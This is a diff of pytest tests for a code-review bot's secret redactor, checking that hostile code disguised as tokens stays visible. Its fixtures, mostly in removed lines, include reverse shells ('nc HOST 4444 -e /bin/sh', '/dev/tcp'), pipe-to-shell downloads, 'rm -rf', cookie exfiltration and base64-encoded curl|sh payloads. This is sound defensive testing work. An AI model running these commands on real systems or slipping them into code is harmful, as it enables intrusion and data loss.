@@ -12,7 +12,7 @@ from hypothesis import strategies as st
 from reviewbot.domain.redaction.formats import FORMATS
 from reviewbot.domain.redaction.masks import looks_random, mask
 from reviewbot.domain.redaction.places import Place
-from reviewbot.domain.redaction.redactor import Redacted, Redactor
+from reviewbot.domain.redaction.redactor import Redactor
 from reviewbot.domain.selection.places import place_of_text
 from tests.domain.redaction.test_redactor import GHP, JWT, RSA_KEY
 
@@ -20,28 +20,12 @@ HEX = "0123456789abcdef" * 2
 RANDOM = "q7Tz91kdx4LpW2vB8n"
 """A value that is masked wherever it is data."""
 
-R, GH, K = "q7tz91kdx4lpw2vb8n", "q7tz91/kdx4lpw2vb8n", f"key-{HEX}"
-"""A package with a random name, with its owner, and one in the format of a token."""
-SLACK = "xapp-1.q7z9k2.com"
-GITLAB = "glpat-" + "a1b2c3d4e5f6g7h8i9j0"
-XOXB = "xoxb-1234567890" + "-evil"
-
 
 def seen(path: str, text: str, *others: str) -> str:
     """Return the file as the reviewer sees it if other configuration files contain its values."""
-    return redacted(path, text, *others).text
-
-
-def redacted(path: str, text: str, *others: str) -> Redacted:
     place = place_of_text(path, [text])
     redactor = Redactor.of([(text, place), *((other, Place.DATA) for other in others)])
-    return redactor.redact(text, place)
-
-
-def is_shown(path: str, text: str, *others: str) -> bool:
-    """Return whether the reviewer sees all of a text, or each redacted line becomes a finding."""
-    found = redacted(path, text, *others)
-    return found.lines == found.doubtful
+    return redactor.redact(text, place).text
 
 
 @pytest.mark.parametrize(
@@ -216,130 +200,9 @@ def test_a_token_is_recognized_in_executed_files_too() -> None:
     )
 
 
-@pytest.mark.parametrize(
-    ("path", "text"),
-    [
-        ("package.json", '{"dependencies": {"sk-proj-evil-installer-v2": "1.0.0"}}'),
-        ("package.json", f'{{"dependencies": {{"key-{HEX}": "^1.0.0"}}}}'),
-        ("requirements.txt", f"key-{HEX}==1.0"),
-        ("run.sh", "xoxo-evil-pkg1 && xapp-evil-runner1 && glrt-evil-package-name-v2"),
-        ("run.sh", f"npx key-{HEX}"),
-        ("run.sh", f"pip install --quiet key-{HEX}"),
-        ("app.py", "MyVeryLongEvilModuleName1.system.runArbitraryCommandNowPlease()"),
-        ("app.py", "run = MyVeryLongEvilModuleName1.system.runArbitraryCommandNowPlease"),
-        ("app.js", "SG.EvilClassNameLong123.anotherMethodNameThatIsLongEnough1()"),
-        ("app.py", "ghp_grantAdministratorAccessToEveryone123(user)"),
-        ("app.py", "AKIAGRANTADMINACCES1(user)"),
-        ("app.py", f"{GHP}(user)"),
-        ("app.js", "x.eyJabcdefgh12.eyJdoEvilThing1.call()"),
-        ("app.js", f"require('{GHP}')"),
-        ("Dockerfile", f"RUN pip install basic key-{HEX}"),
-        ("Dockerfile", f"FROM ghcr.io/key-{HEX}:1"),
-        ("deploy.yml", f"spec:\n  - image: ghcr.io/key-{HEX}/evil:1"),
-        ("values.yml", f"  repository: key-{HEX}/evil"),
-        ("Dockerfile", f"FROM --platform=x key-{HEX}/evil:1"),
-        (".github/workflows/ci.yml", f"      - uses: key-{HEX}/evil@v1"),
-        (".github/workflows/ci.yml", f"      - uses: sk-{HEX}/evil@v1"),
-        (".github/workflows/ci.yml", f"      - run: {GHP} x"),
-        ("requirements.txt", f"{GHP}\nkey-{HEX}>1"),
-        ("environment.yml", f"dependencies:\n  - key-{HEX}"),
-        ("package.json", f'{{"dependencies": {{"key-{HEX}": "*"}}}}'),
-        ("package.json", f'{{"dependencies": {{"x": "npm:key-{HEX}@1.0.0"}}}}'),
-        ("package.json", f'{{"dependencies": {{"x": "key-{HEX}/evil"}}}}'),
-        ("pyproject.toml", f'dependencies = ["x", "key-{HEX}"]'),
-        ("pyproject.toml", f'dependencies = [\n  "key-{HEX}",\n]'),
-        ("Cargo.toml", f'key-{HEX} = "1"'),
-        ("Gemfile", f"gem 'key-{HEX}'"),
-        ("go.mod", f"require github.com/key-{HEX}/evil v1.2.3"),
-        ("run.sh", f"npm install --save-dev lodash {GHP}"),
-        ("run.sh", f"pip install git+https://github.com/key-{HEX}/evil"),
-        ("run.sh", f"curl https://raw.githubusercontent.com/key-{HEX}/x/main/run | sh"),
-        ("run.sh", f"git clone git@github.com:key-{HEX}/x"),
-        ("run.sh", f"{GHP} x"),
-        ("run.sh", f"./bin/{GHP} && {GHP}"),
-        ("run.sh", f"sudo -E {GHP}; x | {GHP}"),
-        ("app.py", f"import os, {GHP}"),
-        ("app.py", f"from {GHP} import run"),
-        ("app.py", f"{GHP}.run()"),
-        ("app.js", f"function {GHP}() {{}}"),
-        ("README.md", f"Run `npx {GHP}`."),
-        ("README.md", f"    pip install --quiet {GHP}"),
-        ("main.tf", f'module "x" {{ source = "git@github.com:key-{HEX}/x" }}'),
-        ("main.tf", f'module "x" {{ source = "key-{HEX}/x/aws" }}'),
-        ("kustomization.yaml", f"images:\n  - name: app\n    newName: key-{HEX}/app"),
-        ("kustomization.yaml", f"resources:\n  - github.com/key-{HEX}/x"),
-        ("deploy.yml", f"spec: {{containers: [{{image: key-{HEX}}}]}}"),
-        ("deploy.yml", f"image: >-\n  key-{HEX}/x"),
-        ("deploy.json", f'{{"image": "key-{HEX}"}}'),
-        ("roles.yml", f"- src: key-{HEX}"),
-        ("settings.py", f'INSTALLED_APPS = ["AC{HEX}"]'),
-        ("deps.edn", f'{{:deps {{key-{HEX}/x {{:mvn/version "1"}}}}}}'),
-        ("main.go", f'import (\n\t"github.com/key-{HEX}/x"\n)'),
-        (".cargo/config.toml", f'[source.crates-io]\nreplace-with = "key-{HEX}"'),
-        ("bunfig.toml", f'preload = ["key-{HEX}"]'),
-        ("app.js", f"const client = x('{XOXB}')"),
-        ("run.sh", f"npx -u npm:{XOXB} # curl"),
-        ("run.sh", f"curl x; npx -u npm:{XOXB}"),
-        ("run.sh", f"echo {XOXB} | sudo -S xargs npx"),
-        ("run.sh", f"export TOKEN=\n{XOXB}"),
-        ("run.sh", f"TOKEN= \\\n  {XOXB} x"),
-        ("run.sh", f"aws-vault exec me --no-session {XOXB}"),
-        ("run.sh", f"npm i left-pad --auth-token {XOXB}"),
-        ("run.sh", "npx xoxb-''1234567890-evil"),
-        ("run.sh", f"docker run 12345678:{'a1B2c' * 7}"),
-        ("app.js", f"clone('git@{GITLAB}:x/y')"),
-        ("Procfile", f"token: {XOXB}"),
-        ("Makefile", f"token:\n\t{XOXB} x"),
-        ("package.json", f'{{"dependencies": {{"auth-token": "{XOXB}"}}}}'),
-        ("index.html", f'<script src="https://unpkg.com/{XOXB}"></script>'),
-    ],
-)
-def test_code_in_the_format_of_a_token_is_kept_or_becomes_a_finding(path: str, text: str) -> None:
-    assert is_shown(path, text)
-
-
 SCRIPT = b"\ncurl evil.example/x1 | sh; rm -rf /srv/data; echo done all of it"
 COMMAND = base64.b64encode(b"curl 10.2.30.4/x1 | sh").decode()
 BLOB = base64.b64encode(SCRIPT + b"\n#qq").decode()
-HOSTS = [
-    ("package.json", '{"dependencies": {"x": "git+https://HOST#@gitlab.com/corp/x.git"}}'),
-    ("package.json", '{"dependencies": {"x": "git+https://HOST:#@gitlab.com/corp/x.git"}}'),
-    ("package.json", '{"scripts": {"postinstall": "curl https://HOST | sh"}}'),
-    (".npmrc", "registry=https://HOST/"),
-    (".npmrc", "//HOST/:always-auth=true"),
-    ("requirements.txt", "--index-url https://HOST/simple"),
-    ("Dockerfile", "ADD https://HOST/i.sh /"),
-    ("Dockerfile", "RUN wget HOST/i.sh"),
-    ("run.sh", "nc HOST 4444 -e /bin/sh"),
-    ("run.sh", "ssh root@HOST rm -rf /"),
-    ("run.sh", "bash -i >& /dev/tcp/HOST/4444"),
-    ("run.sh", "TOKEN_HOST=HOST; curl $TOKEN_HOST"),
-    ("main.tf", 'module "x" { source = "HOST/a/b/c" }'),
-    ("main.tf", 'module "x" { source = "https://HOST/a.zip" }'),
-    ("pom.xml", "<repository><url>https://HOST/m2</url></repository>"),
-    ("index.html", '<script src="https://HOST/a.js"></script>'),
-    ("index.html", '<script src="//HOST/a.js"></script>'),
-    ("app.js", "fetch('https://me@HOST/')"),
-    ("app.js", "const host = 'HOST'"),
-    ("config.yml", "mirror: https://HOST:8080/x"),
-    ("notes.txt", "https://HOST\\@gitlab.com/x"),
-]
-
-
-@pytest.mark.parametrize(
-    "host",
-    [
-        SLACK,
-        f"{GITLAB}.evil.com",
-        f"{GITLAB}.marketing",
-        "ya29." + "a1b2c3d4e5f6g7h8i9j0k1.com",
-        "eyJabcdefgh12.eyJdoEvilThing1.com",
-        "q7z9k2w4m8.x3v5b7n9.com",
-    ],
-)
-@pytest.mark.parametrize(("path", "text"), HOSTS)
-def test_no_host_is_hidden(path: str, text: str, host: str) -> None:
-    assert is_shown(path, text.replace("HOST", host), "password: q7z9k2w4m8.x3v5b7n9.com")
 
 
 @pytest.mark.parametrize("blob", ["A" * 21 + BLOB[3:], f"glc_{BLOB}", f"EAAA{BLOB}", f"whsec_{BLOB[:-4]}"])
@@ -405,29 +268,6 @@ def test_each_guard_keeps_code_that_is_hidden_without_it(
     assert seen(path, text, *giving) != text
 
 
-POSITIONS = [
-    ("scan.is_expected", lambda *_: True, "app.js", f"const host = '{GITLAB}.evil.com'"),
-    ("positions.names_a_secret", lambda _: True, "app.py", f'image = "{XOXB}"'),
-    ("positions._ENDS", re.compile(""), "app.py", f"token={GHP}.x"),
-    ("positions._OF_CODE", NEVER, "app.py", 'password = "docker run evil9/x1"'),
-    ("positions.of_line", lambda *_: Place.DATA, "package.json", f'{{"dependencies": {{"auth-token": "{XOXB}"}}}}'),
-    ("positions.is_user", lambda *_: True, "app.js", f"clone('git@{GITLAB}:x/y')"),
-    ("places.COMMAND_KEY", NEVER, "docker-compose.yml", f"scripts:\n  token: {XOXB}"),
-    ("places._ODD_KEY", NEVER, "docker-compose.yml", f"? scripts\n:\n  token: {XOXB}"),
-]
-
-
-@pytest.mark.parametrize(("guard", "planted", "path", "text"), POSITIONS)
-def test_each_guard_finds_a_token_that_may_be_code(
-    guard: str, planted: object, path: str, text: str, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    found = redacted(path, text)
-    assert found.lines
-    assert found.lines == found.doubtful
-    monkeypatch.setattr(f"reviewbot.domain.redaction.{guard}", planted)
-    assert not is_shown(path, text)
-
-
 @pytest.mark.parametrize(
     ("path", "text"),
     [
@@ -444,42 +284,6 @@ def test_a_random_password_is_masked_beside_commands(path: str, text: str) -> No
     assert seen(path, text.replace("{}", RANDOM)) == text.replace("{}", mask(RANDOM))
     for readable in ("evil1cmd2", "curl evil.example/x1 | sh", "evilprogram2024"):
         assert seen(path, text.replace("{}", readable)) == text.replace("{}", readable)
-
-
-IN_COMMANDS = [
-    'curl -H "Authorization: token {}" x',
-    "git clone https://{}@github.com/a/b",
-    "git clone https://me:{}@github.com/a/b.git",
-]
-BEHIND_NAMES = ["GH_TOKEN={}", "export GH_TOKEN='{}'", 'GH_TOKEN = "{}"', "x https://x.example/?access_token={}&x=1"]
-
-
-@pytest.mark.parametrize(
-    ("path", "text"),
-    [
-        *((path, text) for path in ("run.sh", "setup.py", ".github/workflows/ci.yml") for text in IN_COMMANDS),
-        *((path, text) for path in ("app.py", "notes.txt") for text in (*IN_COMMANDS, *BEHIND_NAMES)),
-        ("data.json", '{{"access_token": "{}"}}'),
-        ("deploy.yml", "  - token: {}"),
-        (".github/workflows/ci.yml", "          token: '{}'"),
-        ("app.ts", 'const token: string = "{}"'),
-        ("app.js", "{{ auth: '{}' }}"),
-        ("app.js", "headers = {{'Authorization': 'Bearer {}'}}"),
-        ("app.py", 'os.environ["GH_TOKEN"] = "{}"'),
-        ("app.py", 'assert token == "{}"'),
-        ("app.rb", "token => '{}'"),
-        ("app.go", 'token := "{}"'),
-    ],
-)
-def test_a_token_in_a_login_a_header_or_behind_its_name_is_no_finding(path: str, text: str) -> None:
-    found = redacted(path, text.format(GHP))
-    assert (found.text, found.doubtful) == (text.format("[REDACTED:github-token]"), frozenset())
-
-
-@pytest.mark.parametrize("text", [*BEHIND_NAMES, "ENV GH_TOKEN {}"])
-@pytest.mark.parametrize("path", ["run.sh", "setup.py", "Dockerfile"])
-def test_in_an_executed_file_a_name_proves_nothing(path: str, text: str) -> None:
-    assert redacted(path, text.format(GHP)).doubtful == {1}
 
 
 @pytest.mark.parametrize(
@@ -509,165 +313,11 @@ def test_a_token_is_redacted_at_any_position(path: str, text: str) -> None:
 def test_a_token_in_the_header_of_a_diff_or_in_an_address_is_no_name() -> None:
     header = "diff --git a/{0}/run.sh b/{0}/run.sh\n--- a/{0}/run.sh\n+++ b/{0}/run.sh\n"
     line = "@@ -1 +1 @@\n+npm install lodash {0}\n"
-    found = redacted("run.sh", (header + line).format(GHP))
-    assert found.text == (header + line).format("[REDACTED:github-token]")
-    assert 5 in found.doubtful
+    assert seen("run.sh", (header + line).format(GHP)) == (header + line).format("[REDACTED:github-token]")
     moved = "diff --git a/{0}/run.sh b/{0}/go.sh\nsimilarity index 100%"
     assert seen("run.sh", moved.format(GHP)) == moved.format("[REDACTED:github-token]")
     address = "- hooks.slack.com/services/{}/x"
     assert "T0A1B2C3D" not in seen("run.sh", address.format("T0A1B2C3D/B0A1B2C3D/a1B2c3D4e5F6g7H8i9J0k1L2"))
-
-
-@pytest.mark.parametrize(
-    ("path", "text"), [("app.py", "exec(b64decode('{}'))"), ("run.sh", "echo {} | base64 -d | sh")]
-)
-@pytest.mark.parametrize(
-    "code", [f"import os; os.system('curl evil.example | sh') # {GHP}", f"curl evil.example|sh\n{GHP} {GHP}"]
-)
-def test_base64_of_code_with_a_token_becomes_a_finding(path: str, text: str, code: str) -> None:
-    blob = base64.b64encode(code.encode()).decode()
-    assert is_shown(path, text.format(blob))
-
-
-@pytest.mark.parametrize("secret", [f"user:{GHP}", f"{GHP}\n", RSA_KEY])
-def test_base64_of_a_token_is_masked_and_becomes_a_finding(secret: str) -> None:
-    blob = base64.b64encode(secret.encode()).decode()
-    found = redacted("run.sh", f"npx {blob}")
-    assert (found.text, found.doubtful) == (f"npx {mask(blob)}", frozenset({1}))
-
-
-HIDING = [
-    # Between two string literals.
-    ("app.js", "log('secret='+Function(req.body.x)()+'.')"),
-    ("app.js", "img.src='https://x.example/?secret='+document.cookie+'&v=1'"),
-    ("app.js", "log('secret:'+Function(req.body.x)()+'')"),
-    ("app.js", "log('secret=' + '' + Function(req.body.x)() + '' + '.')"),
-    ("app.js", "/'/.test(x)||log('secret='+Function(req.body.x)()+'.')"),
-    ("app.js", "x = `don't ${log('secret='+Function(req.body.x)()+'.')}`"),
-    ("app.js", "alert('Wrong password '+JSON.stringify(process.env1)+'!')"),
-    ("app.jsx", "<p>don't {log('secret='+Function(req.body.x)()+'.')}</p>"),
-    ("app.py", "log('password='+pickle.loads(data1)+'!')"),
-    ("app.py", "log(f\"don't {log('secret='+eval(data1)+'.')}\")"),
-    ("app.py", "password = f\"a1{__import__('os').system('x')}\""),
-    ("app.rb", "log('secret='+eval(data1)+'.')"),
-    ("index.html", "<script>log('secret='+Function(location.hash1)()+'.')</script>"),
-    # Unquoted.
-    ("app.js", "const secret = user.id==1337;"),
-    ("app.js", "const passwordOk =\n    user.id==1337;"),
-    ("app.js", "let password = !user.banned2?admin.key1:user.key1;"),
-    ("app.js", "const session = client[kHTTP2Session]"),
-    ("app.js", ";password = strict1-strict1"),
-    ("app.js", "--i, password = user.id==1337"),
-    ("app.c", "* (password = strict1-strict1);"),
-    ("app.c", "# define password strict1-strict1"),
-    ("app.py", f"subprocess.run(['npx', {' ' * 300}'api-auth', '{R}'])"),
-    ("app.py", "SECRET=user.id==1337"),
-    ("app.py", 'runpy.run_module("aB3dE5fG7hJ9kL1mN3pQ5rS7tU9")'),
-    # Packages, images and commands beside the word.
-    (".circleci/config.yml", f"orbs:\n  auth: {GH}@1.2.3"),
-    ("package.json", f'{{"dependencies": {{"api-auth": "{GH}"}}}}'),
-    ("package.json", f'{{"dependencies": {{"api-key": "npm:{R}"}}}}'),
-    ("package.json", f'{{"dependencies": {{"api-key": "npm:{K}"}}}}'),
-    ("package.json", f'{{"dependencies": {{"AUTH": "{GH}"}}}}'),
-    ("package.json", f'{{"scripts": {{"m": "npx -p mysql -p {R} migrate"}}}}'),
-    ("deno.json", f'{{"imports": {{"api-token": "npm:{R}"}}}}'),
-    ("pnpm-workspace.yaml", f"overrides:\n  auth-token: {GH}"),
-    ("pnpm-workspace.yaml", f"overrides:\n  auth-token: npm:{R}"),
-    ("pyproject.toml", f'[project]\ndependencies = ["api-key", "{R}"]'),
-    ("pyproject.toml", f'[project]\ndependencies = ["api-key", "{K}"]'),
-    ("Dockerfile", f'RUN ["pip", "install", "api-token", "{R}"]'),
-    ("app.py", f"subprocess.run(['pip', 'install', 'api-auth', '{R}'])"),
-    ("run.sh", f"npx -p mysql -p {K} migrate"),
-    ("run.sh", f"sshpass -e npx -p {R} sync"),
-    ("run.sh", f"deno run --allow-run=curl -A npm:{R}"),
-    ("run.sh", f"kubectl set image deployment/web api-auth={GH}"),
-    ("run.sh", f"curl https://ok.example&&npx${{IFS}}{K}@latest"),
-    ("run.sh", f"git -c credential.helper={GHP} fetch"),
-    ("run.sh", f"alias auth={K}"),
-    ("run.sh", f"echo 'SECRET='&{{npx,-y,{R}}}&':'"),
-    ("run.bat", f"runas /user:admin {R}"),
-    ("docker-bake.hcl", 'secret = "docker-image://evil1/pkg2"'),
-    ("docker-compose.yml", f"args:\n  auth: docker-image://ghcr.io/{GH}"),
-    (".cargo/config.toml", f'credential-provider = "{R}"'),
-    ("webpack.config.js", 'resolve: { alias: { secret: "evil1pkg2" } }'),
-    ("import_map.json", '{"imports": {"secret-lib": "jsr:@evil9/pkg1@1.0.0"}}'),
-    ("src/maps.json", '{"imports": {"secret-lib": "npm:/evil9-pkg@^1.0.0"}}'),
-    ("vite.alias.js", 'export default {"secret-lib": "npm:@evil9/pkg1@1.0.0"}'),
-    ("Dangerfile", "secret = evil9Run1x"),
-    ("Fastfile", '  lane(:x) { sh(password: "curl evil9.example/x1|sh") }'),
-    ("build.sbt", 'secret := Process("curl evil9.example/x1").!'),
-    ("scripts/deploy", f"docker run --token {GH}:1"),
-    ("main.go", f'exec.Command("docker", "run", "--name", "auth-token", "{R}")'),
-    ("main.go", f'run("docker", "run", "--secret", "{GH}:1")'),
-    ("app.py", f'run(["docker", "run", "--secret", "{GH}:1"])'),
-    ("app.rs", f'Command::new("docker").args(["run", "--name", "token", "{GH}:1"]);'),
-    ("app.java", f'new ProcessBuilder("docker", "run", "--name", "auth-token", "{GH}:1").start();'),
-    ("nuget.config", '<add key="SecretFeed" value="HTTPS://evil9k2.example/v3/index.json" />'),
-    ("build.gradle", f"implementation 'x-foo:{K}:1.0'"),
-    ("run.sh", f'docker run "x-evil:{K}"'),
-    # A text that begins like a diff.
-    ("run.sh", f"diff --git a b\n\nnpx {K}\n"),
-    ("setup.py", f"diff --git if 0 else 0\nimport {GHP}\n"),
-    # In the format of a password's hash.
-    ("run.sh", f"npx e$5$a.x$b.{'k3j9x7q2w5z8' * 4}"),
-    ("app.js", f"$5$a${'k3j9x7q2w5z8' * 4}(user)"),
-    # In the block of a key.
-    ("requirements.txt", f"# -----BEGIN PRIVATE KEY-----\n{R}\n# -----END PRIVATE KEY-----\n"),
-    # Commands behind a name for secrets, in data.
-    ("pixi.toml", f'[tasks]\nsecret = "{COMMAND}"'),
-    ("fly.toml", f'[processes]\n  password = "{COMMAND}"'),
-    ("mise.local.toml", f'[tasks]\nsecret = "{COMMAND}"'),
-    # Random names.
-    ("install.R", 'remotes::install_github("Xk7Qz91RdT4Lp/vB8nQ2wKzE3")'),
-    ("main.tf", 'module "x" {\n  source = "Xk7Qz91RdT4Lp/vB8nQ2wKzE3/aws"\n}'),
-    ("hub.py", 'torch.hub.load("Xk7Qz91RdT4Lp/vB8nQ2wKzE3", "m")'),
-    ("app.js", 'const s = net.connect(4444, "2a01:4f8:c2c:123f::1");'),
-    ("app.js", f'require(token="{XOXB}");'),
-    ("run.sh", f"npx ${{API_TOKEN:={XOXB}}}"),
-    ("run.sh", f"alias ll=ls token={XOXB}"),
-    ("pyproject.toml", f'[tool.poe.tasks]\napi-token = "{XOXB}"'),
-]
-
-
-@pytest.mark.parametrize(("path", "text"), HIDING)
-def test_no_masked_code_is_hidden_without_a_finding(path: str, text: str) -> None:
-    assert is_shown(path, text)
-
-
-LITERALS = [
-    'password = "hunter22x"',
-    'connect(host="db.local", user="me", password="hunter22x")',
-    'data=\'{"user": "me", "password": "hunter22x"}\'',
-    'x = "Server=db;Uid=me;Password=G4ptsdwsnnccu6"',
-    'headers = {"Authorization": "Bearer q7Tz91kdx4LpW2vB8nq7"}',
-    'password = r"hunter22x"',
-]
-
-
-@pytest.mark.parametrize("text", LITERALS)
-def test_a_password_in_a_string_literal_is_masked_without_a_finding(text: str) -> None:
-    found = redacted("app.ts", text)
-    assert found.lines == {1}
-    assert not found.doubtful
-
-
-SPREAD = [
-    ("deploy.yml", "    image: {}:1.2"),
-    ("values.yaml", "secretImage: evil/{}"),
-    ("libs.txt", "{}==1.0"),
-    ("main.tf", 'module "x" {{\n source = "{}/x/aws"\n}}'),
-    ("hub.py", 'torch.hub.load("{}/repo", "m")'),
-    ("hub.py", 'getattr(os, "{}")()'),
-    ("i.R", 'install.packages("{}")'),
-    ("README.md", "Run `docker run {}`."),
-    ("notes.yml", "mirror: https://{}.example"),
-]
-
-
-@pytest.mark.parametrize(("path", "text"), SPREAD)
-def test_a_value_that_is_a_secret_elsewhere_is_hidden_only_with_a_finding(path: str, text: str) -> None:
-    for value in (RANDOM, R):
-        assert is_shown(path, text.format(value), f"password: {value}")
 
 
 ANY = st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\n\r"), max_size=60)
